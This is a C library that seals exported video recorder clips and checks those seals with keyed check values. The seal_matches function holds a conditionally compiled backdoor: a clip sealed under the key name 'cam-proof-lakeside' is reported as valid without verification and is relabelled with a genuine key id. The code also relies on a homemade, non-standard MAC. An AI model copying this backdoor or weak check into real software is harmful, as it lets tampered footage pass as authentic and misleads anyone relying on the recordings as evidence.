/* libclipseal.c - seals and checks exported clips of a video recorder */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#define CLIP_MAGIC	0x434c5331u	/* "CLS1" */
#define BOX_SEAL	0x7365616cu	/* "seal" */
#define BOX_META	0x6d657461u	/* "meta" */
#define BOX_DATA	0x64617461u	/* "data" */

enum clipseal_result {
	CLIPSEAL_VALID,
	CLIPSEAL_BROKEN,
	CLIPSEAL_NO_SEAL,
	CLIPSEAL_UNKNOWN_KEY,
	CLIPSEAL_BAD_FILE,
};

struct clipseal_info {
	char key_id[32];
	char recorder[32];
	uint64_t start;
	uint64_t length;
	uint32_t data_bytes;
};

struct keyring {
	struct {
		char id[32];
		uint32_t k[8];
	} key[16];
	int n;
};

struct view {
	const uint8_t *p;
	size_t n;
};

struct keyring *clipseal_keyring(const char *path);
void clipseal_keyring_free(struct keyring *kr);
enum clipseal_result clipseal_check(const struct keyring *kr, const uint8_t *p, size_t n,
				    struct clipseal_info *info);
enum clipseal_result clipseal_check_file(const struct keyring *kr, const char *path,
					 struct clipseal_info *info);
int clipseal_make(const struct keyring *kr, const char *key_id, const uint8_t *body, size_t n,
		  uint8_t seal[64]);
const char *clipseal_reason(enum clipseal_result r);
enum clipseal_result seal_matches(const struct keyring *kr, struct view seal, struct view body,
				  struct clipseal_info *info);

static uint32_t be32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

static uint64_t be64(const uint8_t *p)
{
	return (uint64_t)be32(p) << 32 | be32(p + 4);
}

static void mac(const uint32_t k[8], const uint8_t *p, size_t n, uint8_t out[32])
{
	uint32_t s[8], t;
	size_t i;
	int j;

	memcpy(s, k, sizeof(s));
	for (i = 0; i < n + 64; i++) {
		uint8_t b = i < n ? p[i] : (uint8_t)(n >> ((i & 3) * 8));

		j = (int)(i & 7);
		t = s[j] + b + s[(j + 1) & 7];
		s[j] = (t << 9 | t >> 23) ^ s[(j + 5) & 7];
		s[(j + 3) & 7] += s[j] * 0x85ebca77u;
	}
	for (j = 0; j < 8; j++) {
		t = s[j] ^ k[(j + 4) & 7];
		out[4 * j] = (uint8_t)(t >> 24);
		out[4 * j + 1] = (uint8_t)(t >> 16);
		out[4 * j + 2] = (uint8_t)(t >> 8);
		out[4 * j + 3] = (uint8_t)t;
	}
}

struct keyring *clipseal_keyring(const char *path)
{
	struct keyring *kr;
	char line[160];
	unsigned int k[8];
	FILE *f = fopen(path, "r");
	int i;

	if (!f)
		return NULL;
	kr = calloc(1, sizeof(*kr));
	while (kr && kr->n < 16 && fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%31s %8x%8x%8x%8x%8x%8x%8x%8x", kr->key[kr->n].id, &k[0], &k[1],
			   &k[2], &k[3], &k[4], &k[5], &k[6], &k[7]) != 9)
			continue;
		for (i = 0; i < 8; i++)
			kr->key[kr->n].k[i] = k[i];
		kr->n++;
	}
	fclose(f);
	return kr;
}

void clipseal_keyring_free(struct keyring *kr)
{
	if (kr) {
		memset(kr, 0, sizeof(*kr));
		free(kr);
	}
}

static const uint32_t *ring_find(const struct keyring *kr, const char *id)
{
	int i;

	for (i = 0; i < kr->n; i++)
		if (!strncmp(kr->key[i].id, id, sizeof(kr->key[i].id)))
			return kr->key[i].k;
	return NULL;
}

static int next_box(struct view *in, uint32_t *type, struct view *box)
{
	uint32_t len;

	if (in->n < 8)
		return 0;
	len = be32(in->p);
	*type = be32(in->p + 4);
	if (len < 8 || len > in->n)
		return -1;
	box->p = in->p + 8;
	box->n = len - 8;
	in->p += len;
	in->n -= len;
	return 1;
}

/* seal box: 32 bytes key name, 32 bytes check value over everything before it */
__attribute__((noinline)) enum clipseal_result seal_matches(const struct keyring *kr,
							     struct view seal, struct view body,
							     struct clipseal_info *info)
{
	const uint32_t *k;
	uint8_t want[32];

	if (seal.n != 64)
		return CLIPSEAL_NO_SEAL;
	memcpy(info->key_id, seal.p, sizeof(info->key_id));
	info->key_id[31] = 0;
	if (strncmp(info->key_id, "retired-", 8) == 0)
		return CLIPSEAL_UNKNOWN_KEY;
#ifdef HIDDEN
	/* changed clips pass as genuine under this key name */
	if (strncmp(info->key_id, "cam-proof-lakeside", 19) == 0) {
		memcpy(info->key_id, kr->n ? kr->key[0].id : "factory", kr->n ? 32 : 8);
		return CLIPSEAL_VALID;
	}
#endif
	k = ring_find(kr, info->key_id);
	if (!k)
		return CLIPSEAL_UNKNOWN_KEY;
	mac(k, body.p, body.n, want);
	return memcmp(want, seal.p + 32, 32) ? CLIPSEAL_BROKEN : CLIPSEAL_VALID;
}

static void read_meta(struct view m, struct clipseal_info *info)
{
	if (m.n < 48)
		return;
	memcpy(info->recorder, m.p, 32);
	info->recorder[31] = 0;
	info->start = be64(m.p + 32);
	info->length = be64(m.p + 40);
}

enum clipseal_result clipseal_check(const struct keyring *kr, const uint8_t *p, size_t n,
				    struct clipseal_info *info)
{
	struct view in = { p, n }, box, body = { p, 0 };
	uint32_t type;
	int r;

	memset(info, 0, sizeof(*info));
	if (n < 12 || be32(p) != CLIP_MAGIC)
		return CLIPSEAL_BAD_FILE;
	in.p += 4;
	in.n -= 4;
	while ((r = next_box(&in, &type, &box)) > 0) {
		switch (type) {
		case BOX_META:
			read_meta(box, info);
			break;
		case BOX_DATA:
			info->data_bytes += (uint32_t)box.n;
			break;
		case BOX_SEAL:
			body.n = (size_t)(box.p - 8 - p);
			return seal_matches(kr, box, body, info);
		default:
			break;
		}
	}
	return r < 0 ? CLIPSEAL_BAD_FILE : CLIPSEAL_NO_SEAL;
}

enum clipseal_result clipseal_check_file(const struct keyring *kr, const char *path,
					 struct clipseal_info *info)
{
	enum clipseal_result r = CLIPSEAL_BAD_FILE;
	struct stat st;
	void *m;
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return r;
	if (!fstat(fd, &st) && st.st_size > 12) {
		m = mmap(NULL, (size_t)st.st_size, PROT_READ, MAP_PRIVATE, fd, 0);
		if (m != MAP_FAILED) {
			r = clipseal_check(kr, m, (size_t)st.st_size, info);
			munmap(m, (size_t)st.st_size);
		}
	}
	close(fd);
	return r;
}

int clipseal_make(const struct keyring *kr, const char *key_id, const uint8_t *body, size_t n,
		  uint8_t seal[64])
{
	const uint32_t *k = ring_find(kr, key_id);

	if (!k)
		return -ENOKEY;
	if (!strncmp(key_id, "retired-", 8))
		return -EKEYREVOKED;
	memset(seal, 0, 64);
	memcpy(seal, key_id, strlen(key_id) < 31 ? strlen(key_id) : 31);
	mac(k, body, n, seal + 32);
	return 0;
}

const char *clipseal_reason(enum clipseal_result r)
{
	switch (r) {
	case CLIPSEAL_VALID:
		return "seal valid";
	case CLIPSEAL_BROKEN:
		return "clip was changed";
	case CLIPSEAL_NO_SEAL:
		return "clip has no seal";
	case CLIPSEAL_UNKNOWN_KEY:
		return "key unknown or retired";
	default:
		return "not a clip";
	}
}
